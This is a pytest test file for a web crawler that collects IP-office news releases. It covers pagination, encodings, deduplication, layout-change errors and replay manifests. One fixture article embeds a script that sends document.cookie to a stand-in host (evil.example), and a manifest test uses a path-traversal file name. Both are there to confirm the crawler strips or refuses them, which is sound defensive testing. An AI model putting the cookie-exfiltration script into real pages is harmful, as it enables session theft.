"""The listing spider's promises: pages followed, stored articles not fetched again, a changed
layout reported in words, scripts never reaching an item, and replay folders read by URL.

Live crawls run against a server the test starts, serving a source's saved pages by the
paths of the URLs in the replay folder's ``manifest.json``.
"""

from __future__ import annotations

import filecmp
import json
import shutil
from collections import Counter
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from pydantic import ValidationError
from sqlalchemy import select
from sqlalchemy.orm import Session

from core.db import make_engine, session_scope
from core.models import CrawlRun, Source
from crawlers.config import SourceConfig
from crawlers.errors import ReplayError
from crawlers.pipeline import run_and_store
from crawlers.registry import SOURCES_DIR, get_source
from crawlers.runner import crawl_in_subprocess
from crawlers.spiders.manifest import load_manifest
from crawlers.store import store_items
from tests.crawlers.conftest import FIXTURES
from tests.servers import serving

USITC = FIXTURES / "usitc_337_news" / "news_releases_2025-06"
LISTING_SOURCES = (
    "usitc_337_news",
    "upc_decisions",
    "jpo_news",
    "kipo_news",
    "india_cgpdtm_notices",
    "cnipa_news",
    "wipo_lex",
)
KIPO_LIST = (
    "https://www.kipo.go.kr/en/boardApp/UnifiedBoardApp?a=list&board_id=press&catmenu=ek03_06_01"
)
KIPO_ARTICLE = "https://www.kipo.go.kr/en/boardApp/UnifiedBoardApp?a=view&board_id=press&seq=1"


class PagesServer(ThreadingHTTPServer):
    """Serves saved pages by path (and query), counting every request."""

    pages: dict[str, bytes]
    requests: Counter[str]
    content_type = "text/html; charset=utf-8"


class PagesHandler(BaseHTTPRequestHandler):
    server: PagesServer

    def do_GET(self) -> None:
        self.server.requests[self.path] += 1
        if self.path == "/robots.txt":
            body, status = b"User-agent: *\nAllow: /\n", 200
        elif self.path in self.server.pages:
            body, status = self.server.pages[self.path], 200
        else:
            body, status = b"not here", 404
        self.send_response(status)
        self.send_header("Content-Type", self.server.content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


def path_of(url: str) -> str:
    parts = urlsplit(url)
    return parts.path + (f"?{parts.query}" if parts.query else "")


@pytest.fixture
def usitc_site(data_dir: Path) -> Iterator[PagesServer]:
    """The saved USITC listing and release pages, served at their paths."""
    manifest = json.loads((USITC / "manifest.json").read_text(encoding="utf-8"))
    httpd = PagesServer(("127.0.0.1", 0), PagesHandler)
    httpd.pages = {path_of(url): (USITC / name).read_bytes() for url, name in manifest.items()}
    httpd.requests = Counter()
    with serving(httpd):
        yield httpd


def base_url(server: PagesServer) -> str:
    return f"http://127.0.0.1:{server.server_address[1]}"


def article_paths(server: PagesServer) -> Counter[str]:
    return Counter({p: n for p, n in server.requests.items() if "/news_release/" in p})


def replay_folder(tmp_path: Path, pages: dict[str, tuple[str, str]]) -> Path:
    """A replay folder: ``{url: (file name, content)}`` saved with their manifest."""
    folder = tmp_path / "replay"
    folder.mkdir()
    for name, content in pages.values():
        (folder / name).write_text(content, encoding="utf-8")
    manifest = {url: name for url, (name, _) in pages.items()}
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    return folder


def test_listing_follows_the_next_page_up_to_max_pages(usitc_site: PagesServer) -> None:
    outcome = crawl_in_subprocess(
        "usitc_337_news", start_url=f"{base_url(usitc_site)}/news_releases"
    )
    assert usitc_site.requests["/news_releases"] == 1
    assert usitc_site.requests["/news_releases?page=1"] == 1
    assert "/news_releases?page=2" not in usitc_site.requests, "max_pages is 2"
    assert [p.kind for p in outcome.problems] == ["limit"]
    assert [item.case_refs for item in outcome.items] == [
        ["337-TA-1951"],
        ["337-TA-1950"],
        ["337-TA-1948"],  # the 337 release on the second page
    ]
    assert set(article_paths(usitc_site).values()) == {1}
    assert "/press_room/news_release/2025/er0611_99095.htm" not in usitc_site.requests, (
        "a release the include pattern leaves out is never fetched"
    )


SHORT_CHINESE_SITE = {
    "/col/col75/index.html": '<html><body><ul class="list"><li><a href="/art/1.html">{title}</a>'
    "<span>2025-06-10</span></li></ul></body></html>",
    "/art/1.html": '<html><body><div class="article-title"><h1>{title}</h1></div>'
    '<div class="article-info"><span class="pubtime">2025-06-10</span></div>'
    '<div class="article"><p>{body}</p></div></body></html>',
}


@pytest.mark.parametrize(
    ("encoding", "title", "body"),
    [
        ("gbk", "海外维权", "专利纠纷"),
        ("gb2312", "海外知识产权保护", "通知"),
        ("big5", "海外維權", "專利糾紛"),
    ],
)
def test_chinese_pages_declaring_no_charset_are_read_in_their_encoding(
    data_dir: Path, encoding: str, title: str, body: str
) -> None:
    """A short undeclared GBK page was read as Korean (CP949) and a Big5 one as Shift_JIS:
    the title came out as mojibake. Neither the header nor the page names a charset here, as on many Chinese
    government sites."""
    httpd = PagesServer(("127.0.0.1", 0), PagesHandler)
    httpd.pages = {
        path: page.format(title=title, body=body).encode(encoding)
        for path, page in SHORT_CHINESE_SITE.items()
    }
    httpd.content_type = "text/html"
    httpd.requests = Counter()
    with serving(httpd):
        outcome = crawl_in_subprocess(
            "cnipa_news", start_url=f"{base_url(httpd)}/col/col75/index.html"
        )
    assert [(item.title, item.body) for item in outcome.items] == [(title, body)]


def test_article_already_stored_is_not_requested_again(usitc_site: PagesServer, db: str) -> None:
    start = f"{base_url(usitc_site)}/news_releases"
    first = crawl_in_subprocess("usitc_337_news", start_url=start)
    stored = [item for item in first.items if item.case_refs == ["337-TA-1951"]]
    with session_scope() as session:
        store_items(session, "usitc_337_news", stored)
    usitc_site.requests.clear()

    second = crawl_in_subprocess("usitc_337_news", start_url=start)
    assert "/press_room/news_release/2025/er0612_99101.htm" not in usitc_site.requests
    assert sorted(article_paths(usitc_site)) == [
        "/press_room/news_release/2025/er0603_99042.htm",
        "/press_room/news_release/2025/er0610_99088.htm",
    ]
    assert [item.case_refs for item in second.items] == [["337-TA-1950"], ["337-TA-1948"]]
    assert second.stats["iprwatch/listing/known_skipped"] == 1
    assert not second.failed


def test_replay_reads_every_saved_article_even_when_stored(db: str) -> None:
    first, _ = run_and_store("usitc_337_news", USITC, in_subprocess=True)
    again, result = run_and_store("usitc_337_news", USITC, in_subprocess=True)
    assert len(first.items) == len(again.items) == 3
    assert result.unchanged == 3


def test_changed_layout_yields_nothing_and_says_why_in_the_source_health(
    database_url: str, tmp_path: Path
) -> None:
    redesigned = (
        "<html><body><section class='cards'><article class='card'><h3>"
        "<a href='/press/2025/1'>USITC Institutes Section 337 Investigation</a>"
        "</h3></article></section></body></html>"
    )
    folder = replay_folder(
        tmp_path, {"https://www.usitc.gov/news_releases": ("listing.html", redesigned)}
    )
    with pytest.raises(ReplayError, match="has the page layout changed"):
        run_and_store("usitc_337_news", folder, in_subprocess=True, database_url=database_url)
    with Session(make_engine(database_url)) as session:
        run = session.scalars(select(CrawlRun)).one()
        assert (run.status, run.items_seen, run.items_new) == ("failed", 0, 0)
        source = session.get_one(Source, "usitc_337_news")
        assert source.healthy is False
        assert source.health_reason is not None
        assert source.health_reason.startswith(
            "replayed from a saved response; last run failed: …: "
        )  # the operator's run record names the file; the public sources page does not
        assert str(folder) not in source.health_reason and str(folder) in (run.reason or "")
        assert (
            "listing selector 'div.news-release-row' matched nothing: has the page layout changed?"
            in source.health_reason
        )


def test_script_and_style_in_an_article_never_reach_the_item(
    tmp_path: Path, data_dir: Path
) -> None:
    listing = (
        "<html><body><table class='board_list'><tbody><tr><td class='subject'>"
        f"<a href='{KIPO_ARTICLE}'>KIPO notice</a></td><td class='date'>2025.06.12</td>"
        "</tr></tbody></table></body></html>"
    )
    article = (
        "<html><head><script>var leaked = 'head';</script></head><body>"
        "<div class='board_view'><h3 class='view_title'>KIPO notice</h3>"
        "<div class='view_content'><p onclick=\"steal()\">First paragraph.</p>"
        "<script>document.location = 'https://evil.example/?c=' + document.cookie;</script>"
        "<style>p { display: none }</style><!-- editor's note -->"
        "<p>Second <b>paragraph</b>.</p></div></div></body></html>"
    )
    folder = replay_folder(
        tmp_path,
        {KIPO_LIST: ("list.html", listing), KIPO_ARTICLE: ("view.html", article)},
    )
    outcome = crawl_in_subprocess("kipo_news", folder)
    [item] = outcome.items
    assert item.body == "First paragraph.\n\nSecond paragraph."
    assert item.url == KIPO_ARTICLE and item.published_at is not None
    assert item.published_at.date().isoformat() == "2025-06-12"


def test_listing_replay_needs_its_manifest(tmp_path: Path, data_dir: Path) -> None:
    shutil.copy(USITC / "news_releases_page0.html", tmp_path / "news_releases_page0.html")
    with pytest.raises(ReplayError, match=r"a listing replay is a folder holding manifest\.json"):
        crawl_in_subprocess("usitc_337_news", tmp_path)


@pytest.mark.parametrize(
    ("manifest", "reason"),
    [
        ({"https://example.org/": "../outside.html"}, "is not a file name in the folder"),
        ({"https://example.org/": "missing.html"}, "missing.html does not exist"),
        ({"ftp://example.org/": "page.html"}, r"is not an http\(s\) URL"),
        ([], "expected a non-empty object"),
    ],
)
def test_a_bad_manifest_is_refused_naming_the_problem(
    manifest: object, reason: str, tmp_path: Path
) -> None:
    (tmp_path / "page.html").write_text("<html></html>", encoding="utf-8")
    (tmp_path / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(ReplayError, match=reason):
        load_manifest(tmp_path)


def test_manifest_urls_match_as_the_site_links_them() -> None:
    manifest = load_manifest(USITC)
    page = manifest.path_for("https://www.usitc.gov/news_releases?page=1#main-content")
    assert page is not None and page.name == "news_releases_page1.html"
    assert manifest.path_for("https://www.usitc.gov/news_releases?page=2") is None


def test_a_selector_typo_fails_when_the_yaml_loads() -> None:
    data = get_source("kipo_news").model_dump()
    data["listing"]["entries"] = "table.board_list tbody tr["
    with pytest.raises(ValidationError, match="invalid CSS selector"):
        SourceConfig.model_validate(data)
    data["listing"]["entries"] = "xpath://tr[@class="
    with pytest.raises(ValidationError, match="invalid XPath"):
        SourceConfig.model_validate(data)


def test_a_listing_spider_needs_a_title_selector() -> None:
    data = get_source("kipo_news").model_dump()
    data["listing"]["entry"]["title"] = None
    data["listing"]["article"]["title"] = None
    with pytest.raises(ValidationError, match="no title selector"):
        SourceConfig.model_validate(data)


@pytest.mark.parametrize("source_id", LISTING_SOURCES)
def test_demo_samples_are_the_reviewed_fixture(source_id: str) -> None:
    [case] = [p for p in (FIXTURES / source_id).iterdir() if p.is_dir()]
    samples = SOURCES_DIR / source_id / "samples"
    saved = sorted(p.name for p in case.iterdir())
    assert saved == sorted(p.name for p in samples.iterdir() if not p.name.endswith(".txt"))
    _, mismatch, errors = filecmp.cmpfiles(case, samples, saved, shallow=False)
    assert not mismatch and not errors
